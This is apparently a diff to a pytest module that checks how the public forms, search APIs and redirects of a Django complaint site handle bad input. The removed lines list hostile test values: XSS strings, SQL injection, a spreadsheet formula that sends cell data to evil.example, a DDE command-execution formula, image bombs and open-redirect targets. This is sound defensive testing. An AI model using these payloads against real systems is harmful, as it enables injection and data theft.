@@ -8,168 +8,63 @@ for the module inside a transaction that is rolled back at the end; every case r
 savepoint of its own.
 """
 
-import datetime
 import json
-import re
 import uuid
-from dataclasses import dataclass, field
 from pathlib import Path
 
-import django
 from django.conf import settings as django_settings
 from django.core.files.uploadedfile import SimpleUploadedFile
-from django.db import transaction
 from django.urls import reverse
-from django.utils import timezone, translation
+from django.utils import translation
 from django.utils.html import escape
 
-from wagtail.models import Locale, Page, Site
-
-import polib
 import pytest
 
-from complaint_forms.models import Report, ReportEvent, Status
-from outreach import links
+from complaint_forms.models import Report, ReportEvent
 from outreach.models import (
     AmbassadorActivity,
     AmbassadorApplication,
-    ApplicationStatus,
     AssistedReportRequest,
-    ProgramKind,
     Registration,
     SchoolSessionRequest,
 )
 from search.models import AnswerFeedback
-from tests import bombs
-from tests.complaint_forms.factories import (
-    CategoryFactory,
-    ReportFactory,
-    ReportPageFactory,
-    WorkUnitFactory,
+from tests.site_core.bad_input_site import (
+    BAD_CHOICES,
+    BAD_DATES,
+    BAD_EMAILS,
+    BAD_NUMBERS,
+    BAD_PHONES,
+    FILE_BOMBS,
+    FORMULAS,
+    INVISIBLE_ONLY,
+    MARKUP,
+    NUL,
+    OVERSIZED,
+    Form,
+    assert_indonesian,
+    built_site,
+    days_from_today,
+    tracking_url,
 )
-from tests.factories import HomePageFactory
-from tests.outreach.factories import (
-    AmbassadorApplicationFactory,
-    EventPageFactory,
-    ProgramIndexPageFactory,
-    ProgramPageFactory,
-)
-from tests.search.factories import AnswerPageFactory, KnowledgeBaseIndexPageFactory
 
 pytestmark = pytest.mark.django_db
 
-# --- hostile values --------------------------------------------------------------------
-NUL = "abc\x00def"
-OVERSIZED = "a" * 100_000
-INVISIBLE_ONLY = "\u200b\u200c\u200d\u2060\ufeff"
-MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
-    "+62-1+1",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-]
-BAD_DATES = ["2026-13-45", "2026-02-30", "0000-00-00", "kemarin", "9999-99-99", "2026-01-05'--"]
-BAD_NUMBERS = ["-1", "99999999999999999999", "1e309", "NaN", "abc", "1/2"]
-BAD_CHOICES = ["<script>", "x" * 300, "🙂", "' OR 1=1 --"]
-BAD_EMAILS = ["not-an-email", "a@b", "<a@b.c>"]
-BAD_PHONES = ["=1+1", "0812<script>", "12", "1" * 40]
-FILE_BOMBS = {
-    "jpeg-12000x12000-header": lambda: bombs.jpeg_claiming(12_000, 12_000),
-    "png-64mpx-zeros": lambda: bombs.png_bomb(8_000, 8_000),
-    "heic": bombs.heic_header,
-    "gif": bombs.gif_image,
-    "html-named-jpg": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
-    "truncated-jpeg": lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 100,
-}
 
-
-def days_from_today(days):
-    return (timezone.localdate() + datetime.timedelta(days=days)).isoformat()
-
-
-# --- the site, built once --------------------------------------------------------------
 @pytest.fixture(scope="module")
 def site(django_db_setup, django_db_blocker):
-    with django_db_blocker.unblock():
-        outer = transaction.atomic()
-        outer.__enter__()
-        try:
-            yield _build_site()
-        finally:
-            transaction.set_rollback(True)
-            outer.__exit__(None, None, None)
+    yield from built_site(django_db_blocker)
 
 
-def _build_site():
-    locales = {
-        code: Locale.objects.get_or_create(language_code=code)[0]
-        for code, _name in django_settings.LANGUAGES
-    }
-    root = Page.get_first_root_node()
-    home = HomePageFactory(parent=root, slug="beranda", locale=locales["id"])
-    Site.objects.filter(is_default_site=True).update(root_page=home, hostname="testserver", port=80)
-    report_page = ReportPageFactory(parent=home)
-    report_page.save_revision().publish()
-    category = CategoryFactory(default_unit=WorkUnitFactory(), locale=locales["id"])
-    needs_info = ReportFactory(status=Status.NEEDS_INFO)
-    answered = ReportFactory(status=Status.ANSWERED)
-    programs = ProgramIndexPageFactory(parent=home)
-    school = ProgramPageFactory(parent=programs, slug="sekolah", kind=ProgramKind.SCHOOL)
-    duta = ProgramPageFactory(
-        parent=programs,
-        slug="duta",
-        kind=ProgramKind.AMBASSADOR,
-        min_age=15,
-        max_age=25,
-        applications_open=timezone.now() - datetime.timedelta(days=1),
-        applications_close=timezone.now() + datetime.timedelta(days=30),
-    )
-    difabel = ProgramPageFactory(parent=programs, slug="difabel", kind=ProgramKind.DISABILITY)
-    event = EventPageFactory(parent=school, slug="acara", capacity=500)
-    ambassador = AmbassadorApplicationFactory(program=duta, status=ApplicationStatus.ACCEPTED)
-    kb_index = KnowledgeBaseIndexPageFactory(parent=home, locale=locales["id"])
-    answer = AnswerPageFactory(parent=kb_index, title="Cara membuat KTP")
-    return {
-        "report_page": report_page,
-        "category": category,
-        "needs_info": needs_info,
-        "answered": answered,
-        "school": school,
-        "duta": duta,
-        "difabel": difabel,
-        "event": event,
-        "activity_token": links.AMBASSADOR_LINK.token(ambassador),
-        "answer": answer,
-    }
+def citizen_action_form(action):
+    """The tracking page's form for one citizen action (the page lists them from the
+    complaint state machine's table)."""
 
+    def find(context):
+        forms = {item["transition"].name: item["form"] for item in context["citizen_actions"]}
+        return forms[action]
 
-# --- the forms -------------------------------------------------------------------------
-@dataclass
-class Form:
-    """One public form: where it posts, a valid submission, and what it stores."""
-
-    url: callable
-    valid: callable
-    stored: callable
-    context: str = "form"
-    prefix: str = ""
-    text: list = field(default_factory=list)  # free text, any length limit
-    required_text: list = field(default_factory=list)  # must hold visible text
-    choices: list = field(default_factory=list)
-    dates: list = field(default_factory=list)
-    numbers: list = field(default_factory=list)
-    emails: list = field(default_factory=list)
-    phones: list = field(default_factory=list)
-    required: list = field(default_factory=list)
-    file_field: str = ""
-    # Free text where markup and formulas are stored as typed (escaped on output).
-    accepts_markup: bool = True
-    # The answer to an accepted submission: a redirect to the thanks page, or 200 where
-    # the form answers on its own page.
-    accepted: int = 302
-    # The answer to a JSON body: outreach forms show the empty form again (200), the
-    # report form and feedback refuse (400), the tracking forms find no report (404).
-    json_body: int = 400
+    return find
 
 
 def _complaint(site):
@@ -191,10 +86,6 @@ def _complaint(site):
         "website": "",
         "idempotency_key": str(uuid.uuid4()),
     }
-
-
-def _tracking_url(site):
-    return site["report_page"].subpage_url("tracking")
 
 
 def indonesian_reverse(name, *args):
@@ -219,7 +110,7 @@ FORMS = {
         accepts_markup=False,
     ),
     "citizen-reply": Form(
-        url=_tracking_url,
+        url=tracking_url,
         json_body=404,
         valid=lambda site: {
             "kode": site["needs_info"].tracking_code,
@@ -227,7 +118,7 @@ FORMS = {
             "reply-message": "Alamatnya Jl. Mawar 3.",
         },
         stored=lambda: ReportEvent.objects.count(),
-        context="reply_form",
+        context=citizen_action_form("reply"),
         prefix="reply",
         text=["message"],
         required_text=["message"],
@@ -235,7 +126,7 @@ FORMS = {
         accepts_markup=False,
     ),
     "citizen-appeal": Form(
-        url=_tracking_url,
+        url=tracking_url,
         json_body=404,
         valid=lambda site: {
             "kode": site["answered"].tracking_code,
@@ -243,7 +134,7 @@ FORMS = {
             "appeal-message": "Jawabannya belum menyelesaikan masalah.",
         },
         stored=lambda: ReportEvent.objects.count(),
-        context="appeal_form",
+        context=citizen_action_form("appeal"),
         prefix="appeal",
         text=["message"],
         required_text=["message"],
@@ -251,7 +142,7 @@ FORMS = {
         accepts_markup=False,
     ),
     "citizen-rating": Form(
-        url=_tracking_url,
+        url=tracking_url,
         json_body=404,
         valid=lambda site: {
             "kode": site["answered"].tracking_code,
@@ -260,7 +151,7 @@ FORMS = {
             "rate-comment": "",
         },
         stored=lambda: ReportEvent.objects.count(),
-        context="rate_form",
+        context=citizen_action_form("rate"),
         prefix="rate",
         text=["comment"],
         choices=["rating"],
@@ -441,38 +332,6 @@ def _cases():
 CASES = list(_cases())
 
 
-# --- checking "clear and translated" ---------------------------------------------------
-def _english_messages():
-    """Every English message that has an Indonesian translation, as a pattern: an error
-    that still matches one was shown untranslated."""
-    exact, patterns = set(), []
-    catalogues = [
-        Path(django_settings.BASE_DIR) / "site_core/locale/id/LC_MESSAGES/django.po",
-        Path(django.__file__).parent / "conf/locale/id/LC_MESSAGES/django.po",
-    ]
-    for path in catalogues:
-        for entry in polib.pofile(str(path)):
-            if not entry.msgstr or entry.msgstr == entry.msgid or entry.obsolete:
-                continue
-            if "%" in entry.msgid:
-                pattern = re.sub(r"%(\([a-z_]+\))?[sdr]", "(.+?)", re.escape(entry.msgid))
-                patterns.append(re.compile(pattern.replace(r"\%", "%")))
-            else:
-                exact.add(entry.msgid)
-    return exact, patterns
-
-
-ENGLISH = _english_messages()
-
-
-def assert_indonesian(message):
-    exact, patterns = ENGLISH
-    assert message.strip(), "empty error message"
-    assert message not in exact, f"untranslated error: {message!r}"
-    for pattern in patterns:
-        assert not pattern.fullmatch(message), f"untranslated error: {message!r}"
-
-
 def _post(client, spec, site, data, files=None):
     url = spec.url(site)
     payload = {**data, **(files or {})}
@@ -481,7 +340,9 @@ def _post(client, spec, site, data, files=None):
 
 
 def _field_errors(response, spec, fld):
-    form = response.context[spec.context]
+    form = (
+        spec.context(response.context) if callable(spec.context) else response.context[spec.context]
+    )
     return form.errors.get(fld, [])
 
 
@@ -574,108 +435,6 @@ def test_a_repeated_field_is_harmless(client, site, form_name):
     assert spec.stored() == before + 1
 
 
-# --- lookups and APIs: harmless answers ------------------------------------------------
-QUERIES = {
-    "nul": NUL,
-    "100kb": OVERSIZED,
-    "invisible-only": INVISIBLE_ONLY,
-    "rtl-override": "ktp\u202egnalih",
-    "markup": MARKUP[0],
-    "formula": FORMULAS[0],
-    "sql": "' OR 1=1 --",
-    "emoji": "🙂" * 50,
-    "lone-surrogate-escape": "%ED%A0%80",
-    "percent-noise": "%%%%%",
-}
-
-
-# The search APIs refuse a NUL character; every other query gets an answer (the report
-# form's similar-answers box answers with no match).
-REFUSED_QUERIES = {("/api/search/", "nul"), ("/api/search/suggest/", "nul")}
-
-
-@pytest.mark.parametrize("query", QUERIES, ids=list(QUERIES))
-@pytest.mark.parametrize(
-    "endpoint",
-    ["/api/search/", "/api/search/suggest/", "/api/reports/similar-answers/", "/id/cari/"],
-)
-def test_search_and_suggestions_answer_hostile_queries_harmlessly(client, site, endpoint, query):
-    response = client.get(endpoint, {"q": QUERIES[query]})
-    assert response.status_code == (400 if (endpoint, query) in REFUSED_QUERIES else 200)
-    if endpoint.startswith("/api/"):
-        # JSON may echo the query; browsers never render it as a page.
-        assert response["Content-Type"].startswith("application/json")
-        assert response["X-Content-Type-Options"] == "nosniff"
-        response.json()
-    else:
-        assert b"<script>alert(1)" not in response.content
-
-
-API_PARAMETERS = {
-    "lang-unknown": {"q": "ktp", "lang": "xx"},
-    "lang-markup": {"q": "ktp", "lang": "<script>"},
-    "lang-list": {"q": "ktp", "lang": ["id", "en"]},
-    "page-huge": {"q": "ktp", "page": "99999999999999999999"},
-    "page-negative": {"q": "ktp", "page": "-5"},
-    "page-nan": {"q": "ktp", "page": "NaN"},
-    "category-100kb": {"q": "ktp", "category": OVERSIZED},
-    "type-markup": {"q": "ktp", "type": MARKUP[1]},
-    "q-missing": {},
-}
-
-
-# The APIs refuse a language they do not serve, and the search API a missing query; the
-# search page shows its empty form, and suggestions for nothing are an empty list.
-REFUSED_PARAMETERS = {
-    ("/api/search/", "lang-unknown"),
-    ("/api/search/", "lang-markup"),
-    ("/api/search/", "q-missing"),
-    ("/api/search/suggest/", "lang-unknown"),
-    ("/api/search/suggest/", "lang-markup"),
-}
-
-
-@pytest.mark.parametrize("params", API_PARAMETERS, ids=list(API_PARAMETERS))
-@pytest.mark.parametrize("endpoint", ["/api/search/", "/api/search/suggest/", "/id/cari/"])
-def test_search_parameters_of_the_wrong_kind_are_harmless(client, site, endpoint, params):
-    response = client.get(endpoint, API_PARAMETERS[params])
-    assert response.status_code == (400 if (endpoint, params) in REFUSED_PARAMETERS else 200)
-    if response.status_code == 400 and endpoint.startswith("/api/"):
-        assert_indonesian(response.json()["error"])
-
-
-@pytest.mark.parametrize("query", QUERIES, ids=list(QUERIES))
-def test_tracking_lookup_of_a_hostile_code_finds_nothing(client, site, query):
-    response = client.get(_tracking_url(site), {"kode": QUERIES[query]})
-    assert response.status_code == 404
-    assert b"<script>alert(1)" not in response.content
-
-
-# (what is posted, the text size kept, where the visitor is sent): unknown values fall
-# back to the defaults (normal text, normal contrast), foreign redirects to the home page.
-PREFERENCES = {
-    "text-markup": ({"text": MARKUP[0]}, "normal", "/"),
-    "contrast-100kb": ({"contrast": OVERSIZED}, "normal", "/"),
-    "text-nul": ({"text": NUL}, "normal", "/"),
-    "next-javascript": ({"text": "large", "next": "javascript:alert(1)"}, "large", "/"),
-    "next-other-host": ({"text": "large", "next": "//evil.example/"}, "large", "/"),
-    "next-backslash": ({"text": "large", "next": "/\\evil.example/"}, "large", "/"),
-    "next-nul": ({"text": "large", "next": "/id/\x00"}, "large", "/id/%00"),
-    "list": ({"text": ["large", "<script>"]}, "normal", "/"),  # the last value counts
-}
-
-
-@pytest.mark.parametrize("prefs", PREFERENCES, ids=list(PREFERENCES))
-def test_display_preferences_keep_only_known_values_and_local_redirects(client, site, prefs):
-    data, expected_text, expected_location = PREFERENCES[prefs]
-    response = client.post("/preferences/", data)
-    assert response.status_code == 302
-    assert response["Location"] == expected_location
-    cookie = response.cookies["display"].value
-    text, contrast = (part.split("=", 1)[1] for part in cookie.split(";"))
-    assert (text, contrast) == (expected_text, "normal")
-
-
 def test_corpus_size_is_reported(request):
     """Prints how many hostile inputs this module sends: every parametrized case but the
     valid submissions."""
@@ -689,12 +448,4 @@ def test_corpus_size_is_reported(request):
     print(f"\nbad-input corpus: {len(hostile)} hostile inputs in this module")  # noqa: T201
     if len(hostile) == len([i for i in request.session.items if "[" in i.name]):
         # The whole module ran: every group of cases is there.
-        assert len(hostile) == (
-            len(CASES)
-            + len(FILE_FORMS) * len(FILE_BOMBS)
-            + 2 * len(FORMS)
-            + 4 * len(QUERIES)
-            + 3 * len(API_PARAMETERS)
-            + len(QUERIES)
-            + len(PREFERENCES)
-        )
+        assert len(hostile) == (len(CASES) + len(FILE_FORMS) * len(FILE_BOMBS) + 2 * len(FORMS))
